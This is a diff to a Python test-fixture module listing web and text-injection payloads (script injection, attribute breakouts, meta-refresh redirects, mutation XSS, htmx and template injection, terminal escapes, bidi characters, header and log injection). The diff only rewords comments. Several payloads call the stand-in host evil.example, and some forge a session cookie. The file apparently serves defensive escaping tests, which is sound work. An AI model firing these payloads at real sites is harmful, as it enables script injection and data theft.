@@ -1,7 +1,7 @@
-"""Payloads that a hostile page or tool may put into a text, grouped by what they try to do.
+"""Attack payloads that a hostile website or tool may send, grouped by what they try to do.
 
-Each has an effect that the tests detect if it ever runs: `RUN` calls a function that they watch,
-and `HOST` is another server, which must never get a request.
+The tests notice if a payload ever takes effect: `RUN` calls a function that they watch,
+and `HOST` stands for a foreign server, which must never receive a request.
 """
 
 import json
@@ -9,7 +9,7 @@ from itertools import chain
 
 RUN, HOST = "pwned(1)", "evil.example"
 
-# Run if a text becomes HTML unescaped; tests/browser proves that they do.
+# These run if text is not escaped in HTML, as a test in tests/browser proves.
 MARKUP = [
     "<script>RUN</script>",
     "<ScRiPt >RUN</sCrIpT>",
@@ -68,7 +68,7 @@ MARKUP = [
     "<script>fetch('//HOST/fetch',{mode:'no-cors'})</script>",
     "<a href=x ping=//HOST/ping id=pinged>x</a><img src=x onerror=RUN>",
 ]
-# Break out of their context: an attribute, a title, a script, a comment, a cell or a style.
+# These break out of an attribute, a title, a script, a comment, a table cell or a style.
 BREAKOUTS = [
     '"><script>RUN</script>',
     "'><script>RUN</script>",
@@ -111,7 +111,7 @@ BREAKOUTS = [
     "`-RUN-`",
     "</script\t\n x><img src=x onerror=RUN>",
 ]
-# Redirect the reader, a form or the page's own addresses elsewhere, without any script.
+# These redirect the reader, a form or the page's links to another server without a script.
 REDIRECTIONS = [
     "<meta http-equiv=refresh content='0;url=//HOST/refresh'>",
     "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
@@ -138,7 +138,7 @@ REDIRECTIONS = [
     "<div id=entries><article class=message id=message-1>not this one</article></div>",
     "<form><input name=attributes><input name=innerHTML></form>",
 ]
-# Become dangerous when the HTML is parsed, serialized and parsed again.
+# These become dangerous when the HTML is parsed, serialized and parsed again.
 MUTATIONS = [
     "<svg><desc><noscript><img src=x onerror=RUN></noscript></desc></svg>",
     "<svg/onload=RUN//",
@@ -230,7 +230,7 @@ MARKDOWN = [
     "<div>\n\n[in a block](javascript:RUN)\n\n</div>",
     "https://HOST/?a=1&lt;script&gt;RUN",
 ]
-# Attributes and syntaxes of libraries that these pages or similar sites use.
+# Attributes and template syntax of libraries that this site or similar sites use.
 FRAMEWORKS = [
     "<b hx-get=/sign-out/ hx-trigger=load>x</b>",
     "<b data-hx-get=//HOST/hx hx-trigger='load,revealed,every 1s'>x</b>",
@@ -249,7 +249,7 @@ FRAMEWORKS = [
     "{{''.__class__.__mro__[1].__subclasses__()}}<%= 7*7 %>#{7*7}*{7*7}@(7*7)",
     "{0.__class__} %(password)s %s %n %x {user.password}",
 ]
-# Control sequences that terminals obey.
+# Control sequences that terminals interpret.
 TERMINAL = [
     "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[0m",
     "\x1b]0;a title\x07\x1b]2;another\x1b\\",
@@ -265,7 +265,7 @@ TERMINAL = [
     "\x07\x0e\x0f\x7f\x05",
     "\x1b[31",
 ]
-# Invisible characters, and characters that change the displayed order of a text.
+# Invisible characters, and characters that change the order in which text is displayed.
 UNSEEN = [
     "\u202e<script>RUN</script>\u202c",
     "\u2066\u2067\u2068x\u2069\u200e\u200f\u061c",
@@ -282,7 +282,7 @@ UNSEEN = [
     "\ufffe\uffff\U0001ffff\U0010ffff",
     "\ufff9a\ufffab\ufffb \ufffc \ufffd",
 ]
-# Attack code that turns texts into lines, headers, files, tables and paths.
+# Attacks on log lines, HTTP headers, file names, spreadsheets, SQL and paths.
 LINES = [
     "x\r\nSet-Cookie: gloamy_session=forged\r\n\r\n<script>RUN</script>",
     "x\nFORGED 2026-11-25 ERROR all is well",
@@ -365,5 +365,5 @@ HUGE = [
 
 
 def aimed(payload: str, run: str = RUN, host: str = HOST) -> str:
-    """Return a payload that runs this code and contacts this host."""
+    """Return the payload with the code to run and the host to contact filled in."""
     return payload.replace("RUN", run).replace("HOST", host)
